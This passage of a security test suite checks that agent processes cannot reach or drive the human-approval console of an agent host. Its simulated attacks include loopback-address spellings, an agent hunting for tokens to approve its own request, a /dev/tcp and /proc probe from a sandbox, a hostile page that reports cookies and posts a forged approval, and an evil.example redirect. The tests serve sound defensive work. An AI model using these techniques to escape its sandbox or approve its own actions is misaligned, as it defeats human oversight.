        for _ in range(256):
            yield b"B" * 4096

    bodies: dict[str, dict[str, Any]] = {
        "with a length": {"data": {"text": "A" * (1 << 20), "csrf": csrf}},
        "streamed": {"content": chunks(), "headers": {"content-type": "application/x-www-form-urlencoded"}},
    }
    started = time.monotonic()
    for what, body in bodies.items():
        headers = {**HX, "Origin": me, **body.pop("headers", {})}
        try:
            got: int | str = httpx.post(f"{mine}/process/{w}/send", headers=headers, timeout=10, **body).status_code
        except (httpx.WriteError, httpx.ReadError, httpx.RemoteProtocolError) as err:
            got = type(err).__name__  # the server answered 413 and closed before the body was all sent
        assert got in (413, "WriteError", "ReadError", "RemoteProtocolError"), (what, got)
    assert time.monotonic() - started < 10
    messages = host.read(lambda rt: rt.context(w))
    assert not any("AAAA" in str(m) or "BBBB" in str(m) for m in messages)
    ok = httpx.post(f"{mine}/process/{w}/send", headers={**HX, "Origin": me}, data={"text": "C" * 4000, "csrf": csrf})
    assert ok.status_code == 200, ok.text  # the longest message a person may type still goes
    wait_until(lambda: any("C" * 4000 in str(m) for m in host.read(lambda rt: rt.context(w))), "the message", host)


def test_the_token_is_never_written_where_a_process_could_look(host: Host, agents: Agents) -> None:
    """Not in the store (database, WAL, the bell's directory), not in what the host printed (a log
    a process may read: serve.log in a workspace), not in the host's command line or environment:
    the only copy outside the host's memory is console-PORT.url, 0600, in the store's directory
    (which the fs tools refuse and an isolated command sees empty: the tests of part 4)."""
    st = Path(host.store).parent
    holding = sorted(p.name for p in st.rglob("*") if p.is_file() and host.token.encode() in p.read_bytes())
    assert holding == [f"console-{host.port}.url"], holding
    assert host.url_file is not None and host.url_file.read_text() == host.url + "\n"
    assert host.url_file.stat().st_mode & 0o777 == 0o600
    assert host.token not in "".join(host.lines)
    assert host.tee is not None and host.tee.read_text() and host.token not in host.tee.read_text()
    bells = [p for p in st.iterdir() if p.name.startswith(".alos-bell-")]
    assert bells and all(os.stat(b).st_mode & 0o077 == 0 for b in bells)  # 0700: the user's alone
    for b in bells:
        for sock in b.iterdir():
            assert sock.is_socket(), sock
    for part in ("cmdline", "environ"):
        assert host.token.encode() not in Path(f"/proc/{host.proc.pid}/{part}").read_bytes()


# -- 4. reaching the console from inside a process ----------------------------------------------


def test_net_fetch_cannot_reach_the_console_on_loopback(host: Host, root: Path) -> None:
    """Granted the whole network (net:*), a process still reaches no loopback address, however
    it spells it."""
    ws = workspace(root, "ws-fetch1")
    (root / "netter.yaml").write_text(NETTER)
    port, tok = host.port, host.token
    urls = [
        f"http://127.0.0.1:{port}/approvals?token={tok}",
        f"http://localhost:{port}/approvals?token={tok}",
        f"http://0.0.0.0:{port}/approvals?token={tok}",
        f"http://[::1]:{port}/approvals?token={tok}",
        f"http://[::ffff:127.0.0.1]:{port}/approvals?token={tok}",
        f"http://127.1:{port}/approvals?token={tok}",
        f"http://2130706433:{port}/approvals?token={tok}",
        f"http://0x7f000001:{port}/approvals?token={tok}",
    ]
    pid = host.spawn(
        [turn("probe", *[call("net_fetch", url=u) for u in urls]), turn("done", call("proc_exit", result="done"))],
        ws,
        allow=("net:*=read,write",),
        image=str(root / "netter.yaml"),
    )
    host.wait_exit(pid)
    fetched = [r for r in host.audit(pid) if r.syscall == "net.fetch"]
    assert fetched, host.audit(pid)
    assert not [r for r in fetched if r.outcome == "ok"], [(r.resource, r.decision, r.outcome) for r in fetched]
    denied = {r.resource for r in fetched if r.decision == "deny"}  # decided (and refused), not just malformed
    assert denied >= {f"net:{h}/approvals" for h in ("127.0.0.1", "localhost", "0.0.0.0", "[::1]")}, denied
    results = [m for m in host.read(lambda rt: rt.context(pid)) if m.get("role") == "tool"]
    assert len(results) == len(urls) and not any('"status"' in str(m.get("content")) for m in results), results


def test_a_process_cannot_answer_its_own_requests_through_the_console(host: Host, root: Path, web: Any) -> None:
    """A process granted loopback for a dev server (net:127.0.0.1, which covers every port) and
    reading everywhere (fs:/*) looks for the console's token in the host's log in its workspace
    (serve.log), in the file that log names (console-PORT.url) and through a link to it, then
    drives the console with whatever it found (the token in the path, in the query, in the cookie
    the console once set; the CSRF token read from a page it got): its request still waits. Each
    stage is a process of its own, scripted with only what the previous one read."""
    _, csrf = web
    ws = host.tee.parent if host.tee is not None else workspace(root, "ws-net")
    assert host.url_file is not None
    victim = host.spawn(
        [turn("write", call("fs_write", path="stolen.txt", content="approved by myself\n"))],
        ws,
        allow=("fs:*=read,list",),
        ask=("fs:*=write",),
    )
    req = host.wait_pending(victim)
    (root / "netter.yaml").write_text(NETTER)
    (ws / "console.url").unlink(missing_ok=True)
    (ws / "console.url").symlink_to(host.url_file)  # as a command the process ran could have made
    me = f"http://127.0.0.1:{host.port}"
    loopback = ("fs:/*=read,list", "net:127.0.0.1=read,write")

    def attack(calls: list[dict[str, Any]]) -> list[str]:  # one process making ``calls``; its tool results
        pid = host.spawn(
            [turn("look", *calls), turn("done", call("proc_exit", result="done"))],
            ws,
            allow=loopback,
            image=str(root / "netter.yaml"),
        )
        host.wait_exit(pid)
        return [str(m.get("content")) for m in host.read(lambda rt: rt.context(pid)) if m.get("role") == "tool"]

    read = attack(
        [
            call("fs_read", path="serve.log"),
            call("fs_read", path=str(host.url_file)),
            call("fs_read", path="console.url"),
        ]
    )
    assert len(read) == 3, read
    tokens = sorted(
        set(re.findall(r"token=([A-Za-z0-9_-]{20,})", "".join(read)))
        | set(re.findall(rf"127\.0\.0\.1:{host.port}/([A-Za-z0-9_-]{{40,}})", "".join(read)))
    )
    cookie = f"alos_console_{host.port}"
    pages = [call("net_fetch", url=f"{me}/approvals")]  # and with each token it found, every way it may go
    for t in tokens:
        pages += [
            call("net_fetch", url=f"{me}/{t}/approvals"),
            call("net_fetch", url=f"{me}/approvals?token={t}"),
            call("net_fetch", url=f"{me}/approvals", headers={"Cookie": f"{cookie}={t}"}),
        ]
    got = attack(pages)
    csrfs = sorted(
        set(re.findall(r'(?:name=\\?"csrf\\?" value=\\?"|X-CSRF-Token\\?": \\?")([A-Za-z0-9_-]+)', "".join(got)))
    )
    answer = f"/requests/{req.id}/answer"
    posts: list[tuple[str, dict[str, str]]] = [(me + answer, {})]
    for t in tokens:
        posts += [
            (f"{me}/{t}{answer}", {}),
            (f"{me}{answer}?token={t}", {}),
            (me + answer, {"Cookie": f"{cookie}={t}"}),
        ]
    form = {"Origin": me, "HX-Request": "true", "Content-Type": "application/x-www-form-urlencoded"}
    attack(
        [
            call(
                "net_fetch", url=url, method="POST", headers={**form, **headers, "X-CSRF-Token": c}, body="verdict=once"
            )
            for url, headers in posts
            for c in csrfs or ["none"]
        ]
    )
    time.sleep(0.5)
    assert host.request(req.id).state.value == "pending", (
        f"request {req.id} was answered by {host.request(req.id).answered_by} "
        f"(tokens read: {len(tokens)}, CSRF tokens read from a page: {len(csrfs)})"
    )
    assert not (ws / "stolen.txt").exists()
    # what kept it out: the log names the file but holds no token, and the file is refused however reached
    assert f"console: {me}/ (the URL with its token is in {host.url_file})" in read[0], read[0]
    for refused in read[1:]:
        assert "inside alos's store directory" in refused, refused
    assert tokens == [] and host.token not in "".join(read + got), "the process read the console's token"
    assert csrf not in "".join(got)


def test_an_isolated_command_reaches_neither_the_console_nor_the_store(host: Host, root: Path) -> None:
    """A command under bubblewrap (no network granted): no connection to the console's port, an
    empty store directory (no bell sockets to ring, no listener to fake), none of the host's
    processes (no token in a command line or an environment to read); and the fs tools refuse the
    store's directory, even under a grant of write on the directory that holds it."""
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed: commands are not isolated here")
    ws = workspace(root, "ws-shell")
    (root / "sheller.yaml").write_text(SHELLER)
    st = Path(host.store).parent

    def listeners() -> list[Path]:
        return [s for b in st.glob(".alos-bell-*") for s in b.iterdir() if s.is_socket()]

    wait_until(lambda: bool(listeners()), "the host to listen on the store's bell", host)
    listener = listeners()[0]
    bell = listener.parent
    probe = "; ".join(
        [
            "exec 2>&1",
            f"if (exec 3<>/dev/tcp/127.0.0.1/{host.port}); then echo CONSOLE-REACHED; else echo CONSOLE-UNREACHED; fi",
            f'test -d "{st}" && echo STORE-DIR-THERE',
            f'echo STORE-ENTRIES $(ls -A "{st}" | wc -l)',
            "echo PIDS $(ls -d /proc/[0-9]* | wc -l)",
            # what is searched for is put together inside bash ([[ ]] is a builtin): no command line
            # of the probe holds it whole
            'all=$(cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ | tr "\\0" " ")',
            f"h=alos.cli; a={host.token[:20]}; b={host.token[20:]}",
            'if [[ $all == *"$h serve"* ]]; then echo HOST-SEEN; else echo HOST-UNSEEN; fi',
            'if [[ $all == *"$a$b"* ]]; then echo TOKEN-SEEN; else echo TOKEN-UNSEEN; fi',
            "echo PROBED",
        ]
    )
    pid = host.spawn(
        [
            turn(
                "probe",
                call("shell_run", argv=["bash", "-c", probe], timeout=30),
                call("fs_list", path=str(bell)),
                call("fs_write", path=str(bell / "fake-listener"), content="x"),
                call("fs_delete", path=str(listener)),
            ),
            turn("done", call("proc_exit", result="done")),
        ],
        ws,
        # write and delete on the store's parent directory: only the store rule keeps the bell out
        allow=("shell:bash -c *=execute", "fs:/*=read,list", f"fs:{root}/*=write,delete"),
        image=str(root / "sheller.yaml"),
    )
    host.wait_exit(pid)
    results = [str(m.get("content")) for m in host.read(lambda rt: rt.context(pid)) if m.get("role") == "tool"]
    assert len(results) == 4, results
    shell = results[0]
    assert '"isolated":true' in shell.replace(" ", ""), shell
    assert "PROBED" in shell and "CONSOLE-UNREACHED" in shell, shell
    assert "STORE-DIR-THERE" in shell and "STORE-ENTRIES 0" in shell, shell  # there, and empty
    pids = re.search(r"PIDS (\d+)", shell)
    assert pids is not None and 1 <= int(pids.group(1)) < 10, shell  # its own pid namespace
    assert "HOST-UNSEEN" in shell and "TOKEN-UNSEEN" in shell, shell
    for refused in results[1:]:
        assert "inside alos's store directory" in refused, refused
    assert not (bell / "fake-listener").exists()
    assert listener.is_socket()  # the host's listener is still there


HOSTILE_PAGE = """<!doctype html><title>the dev server</title><p>the dev server</p>
<a id="back" href="{console}/approvals">back to the console</a>
<script>
const report = (what) => fetch("/report?" + new URLSearchParams(what));
report({{referrer: document.referrer, href: location.href, cookie: document.cookie}});
Promise.allSettled([
  fetch("{console}/approvals/count", {{credentials: "include", mode: "no-cors"}}),
  fetch("{console}/requests/{rid}/answer", {{method: "POST", credentials: "include", mode: "no-cors",
    body: new URLSearchParams({{verdict: "always"}})}}),
]).then(() => report({{done: "1"}}));
</script>"""
HOSTILE_FORM = """<!doctype html><title>a form</title>
<form id="f" method="post" action="{console}/requests/{rid}/answer"><input name="verdict" value="always"></form>
<script>document.getElementById("f").submit();</script>"""


@dataclass
class Heard:
    """What a hostile local server received: each request's method, target (path and query) and
    headers."""

    requests: list[tuple[str, str, list[tuple[str, str]]]] = field(default_factory=list)

    def paths(self) -> list[str]:
        return [target.split("?")[0] for _, target, _ in self.requests]


def hostile_server(heard: Heard, console: str, rid: int) -> http.server.HTTPServer:
    """Return a server on another port of 127.0.0.1 (a dev server an agent started) recording into
    ``heard`` every request it gets; its pages try to reach the console and to answer ``rid``."""

    class Hostile(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.requests.append((self.command, self.path, list(self.headers.items())))
            page = {"/": HOSTILE_PAGE, "/form": HOSTILE_FORM}.get(self.path.split("?")[0], "<p>ok</p>")
            body = page.format(console=console, rid=rid).encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    return http.server.HTTPServer(("127.0.0.1", 0), Hostile)


@pytest.mark.slow
def test_a_server_on_another_local_port_never_gets_the_console_token(host: Host, root: Path) -> None:
    """The person opens the console, follows a link from it to a dev server on another local port
    (an agent started it) and opens that server again later: the server gets the token in no
    header (no cookie, no Referer), no path or query and no script-visible value; its pages' calls,
    link and form back into the console are refused; the request still waits."""
    if not Path("/usr/bin/chromium").exists():
        pytest.skip("Debian's chromium is not installed")
    sync_api = pytest.importorskip("playwright.sync_api")
    ws = workspace(root, "ws-cookie")
    victim = host.spawn(
        [turn("write", call("fs_write", path="x.txt", content="x\n"))],
        ws,
        allow=("fs:*=read,list",),
        ask=("fs:*=write",),
    )
    req = host.wait_pending(victim)
    heard = Heard()
    server = hostile_server(heard, host.base, req.id)
    dev = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def until(page: Any, holds: Callable[[], bool], what: str) -> None:  # Playwright's events flow meanwhile
        deadline = time.monotonic() + WAIT_SECONDS
        while not holds():
            assert time.monotonic() < deadline, f"timed out waiting for {what}: {heard.paths()}"
            page.wait_for_timeout(50)

    refusals: list[tuple[str, int]] = []
    try:
        with sync_api.sync_playwright() as p:
            browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox", "--disable-gpu"])
            try:
                ctx = browser.new_context()
                page = ctx.new_page()
                page.goto(host.url)  # the person opens the console ...
                assert page.url == f"{host.home}/processes" and ctx.cookies() == []
                # ... follows a link on a console page to the dev server (as if one were shown there)
                with page.expect_navigation():
                    page.evaluate(
                        "url => { const a = document.createElement('a'); a.href = url; document.body.append(a);"
                        " a.click(); }",
                        f"{dev}/?from=console",
                    )
                until(page, lambda: "/report" in heard.paths(), "the dev server's page to report")
                until(page, lambda: heard.paths().count("/report") >= 2, "the dev server's calls to the console")
                page.goto(f"{host.home}/processes")  # back to the console (typed), then the dev server again
                page.goto(f"{dev}/")
                until(page, lambda: heard.paths().count("/report") >= 4, "the second visit's calls")
                with page.expect_navigation() as went:  # its link back into the console
                    page.click("#back")
                answered = went.value
                refusals.append((page.url, answered.status if answered is not None else 0))
                assert page.locator("section.request").count() == 0
                with page.expect_navigation(url=re.compile(rf"^{re.escape(host.base)}/")) as went:
                    page.goto(f"{dev}/form")  # a form that posts an answer to the console at once
                answered = went.value
                refusals.append((page.url, answered.status if answered is not None else 0))
                assert ctx.cookies() == []
            finally:
                browser.close()
    finally:
        server.shutdown()
        server.server_close()
    assert refusals == [(f"{host.base}/approvals", 403), (f"{host.base}/requests/{req.id}/answer", 403)], refusals
    assert {"/", "/report", "/form"} <= set(heard.paths()), heard.paths()
    leaked = [
        (method, target, name)
        for method, target, headers in heard.requests
        for name, value in [("request target", target), *headers]
        if host.token in value or host.token in urllib.parse.unquote(value)
    ]
    assert not leaked, f"a server on another port received the console's token: {leaked}"
    sent = [h for _, _, headers in heard.requests for h in headers]
    assert not [v for k, v in sent if k.lower() == "cookie"], "the dev server got a cookie"
    referers = [v for k, v in sent if k.lower() == "referer"]
    assert all(v.startswith(dev + "/") for v in referers), referers  # its own pages only: never the console
    assert host.request(req.id).state.value == "pending"
    assert not [r for r in host.audit() if r.syscall == "human.answer" and r.detail.get("request") == req.id]


# -- 5. denial of service through the console ---------------------------------------------------


def test_a_huge_reply_or_goal_does_not_make_a_huge_page(host: Host, root: Path, web: Any) -> None:
    client, _ = web
    ws = workspace(root, "ws-huge")
    big = "<b>x</b> " * 250_000  # 2.25 MB of text, 6 MB of HTML escaped
    pid = host.spawn(
        [turn(big, call("proc_spawn", name="kid", goal=big)), turn("wait", call("msg_recv"))],
        ws,
        allow=("proc:spawn=spawn",),
    )
    wait_until(lambda: host.process(pid).wait is not None and host.process(pid).turns >= 1, "the huge turn", host)
    kid = next(p.pid for p in host.read(lambda rt: rt.processes()) if p.parent == pid)
    sizes = {path: len(client.get(path).content) for path in (f"/process/{pid}/body", f"/process/{kid}")}
    assert all(size < 1 << 20 for size in sizes.values()), f"page sizes: {sizes}"


def test_live_pages_stay_bounded_while_a_process_is_busy(host: Host, root: Path, web: Any) -> None:
    """Thirty open streams that never read (slow or dead pages) and one that does, while a process
    makes forty quick turns: redraws are merged (at most one push per 50 ms), and the host and the
    console go on."""
    client, _ = web
    ws = workspace(root, "ws-busy")
    idle: list[socket.socket] = []
    try:
        for _ in range(30):
            s = socket.create_connection(("127.0.0.1", host.port), timeout=5)
            s.sendall(f"GET /{host.token}/events HTTP/1.1\r\nHost: 127.0.0.1:{host.port}\r\n\r\n".encode())
            idle.append(s)
        pushes = 0
        with client.stream("GET", "/events", timeout=httpx.Timeout(30)) as stream:
            started = time.monotonic()
            pid = host.spawn([turn("tick", call("clock_now"))] * 40, ws, allow=("clock=read",))
            for line in stream.iter_lines():
                pushes += line.startswith("event: ")
                if host.process(pid).exit is not None:  # its exit is committed before its push
                    break
                if time.monotonic() - started > WAIT_SECONDS:
                    raise AssertionError("the busy process did not finish")
            took = time.monotonic() - started
        assert host.process(pid).exit is not None
        events_per_push = 6  # procs, requests, audit, all and one or two proc-N at most
        assert pushes <= events_per_push * (took / 0.05 + 2), (pushes, took)
        t = time.monotonic()
        assert client.get("/processes").status_code == 200
        assert time.monotonic() - t < 5
    finally:
        for s in idle:
            s.close()


@pytest.mark.slow
def test_idle_connections_without_a_token_cannot_starve_the_host(tmp_path: Path) -> None:
    """200 connections that never send a request, against a host allowed 160 descriptors: the
    console holds at most 100 (it closes the rest at once) and drops idle ones after 5 s, so the
    host's processes still open their files and the console answers again once the flood is shed."""
    h = start_host(tmp_path, nofile=160)
    flood: list[socket.socket] = []
    try:
        ws = workspace(tmp_path, "ws")
        for _ in range(200):
            with contextlib.suppress(OSError):
                flood.append(socket.create_connection(("127.0.0.1", h.port), timeout=2))
        time.sleep(0.3)
        pid = h.spawn([turn("write", call("fs_write", path="out.txt", content="hi\n"))], ws, allow=("fs:*=write",))
        done = h.wait_exit(pid)
        assert done.exit is not None and done.exit.value == "ok", f"the process ended {done.exit}: {done.result}"
        opened: int | str = "never"
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            try:
                opened = httpx.get(h.url, timeout=3, follow_redirects=True).status_code
            except httpx.HTTPError as err:
                opened = repr(err)
            if opened == 200:
                break
            time.sleep(0.5)
        assert opened == 200, f"a person opening the console got {opened}"
    finally:
        for s in flood:
            s.close()
        h.stop()


# -- 6. robustness: what a crafted request gets back ----------------------------------------------


def test_crafted_answers_and_ids_are_refused_cleanly(host: Host, agents: Agents, web: Any) -> None:
    _, csrf = web
    question = host.pending(agents.asker)[0].id
    me, mine = host.base, host.home
    form = {"headers": {**HX, "Origin": me}, "timeout": 10}
    statuses = {  # each on a connection of its own: the server drops one that got a 500
        "approve a question": httpx.post(
            f"{mine}/requests/{question}/answer", data={"verdict": "once", "csrf": csrf}, **form
        ).status_code,
        "a huge request id": httpx.post(
            f"{mine}/requests/{2**70}/answer", data={"verdict": "deny", "csrf": csrf}, **form
        ).status_code,
        "a huge pid": httpx.get(f"{mine}/process/{2**70}", timeout=10).status_code,
    }
    # refused for what they ask (not for want of the token or the CSRF token: no 403)
    assert all(400 <= s < 500 and s != 403 for s in statuses.values()), statuses
    assert host.request(question).state.value == "pending"


def test_the_token_redirect_stays_on_the_console(host: Host) -> None:
    with socket.create_connection(("127.0.0.1", host.port), timeout=10) as s:
        s.sendall(
            f"GET //evil.example/x?token={host.token} HTTP/1.1\r\nHost: 127.0.0.1:{host.port}\r\n"
            "Connection: close\r\n\r\n".encode()
        )
        head = s.recv(4096).decode("latin-1")
    location = re.search(r"(?im)^location: (.*)\r$", head)
    assert location is not None, head
    assert location.group(1).startswith(f"/{host.token}/"), location.group(1)  # under the console's root
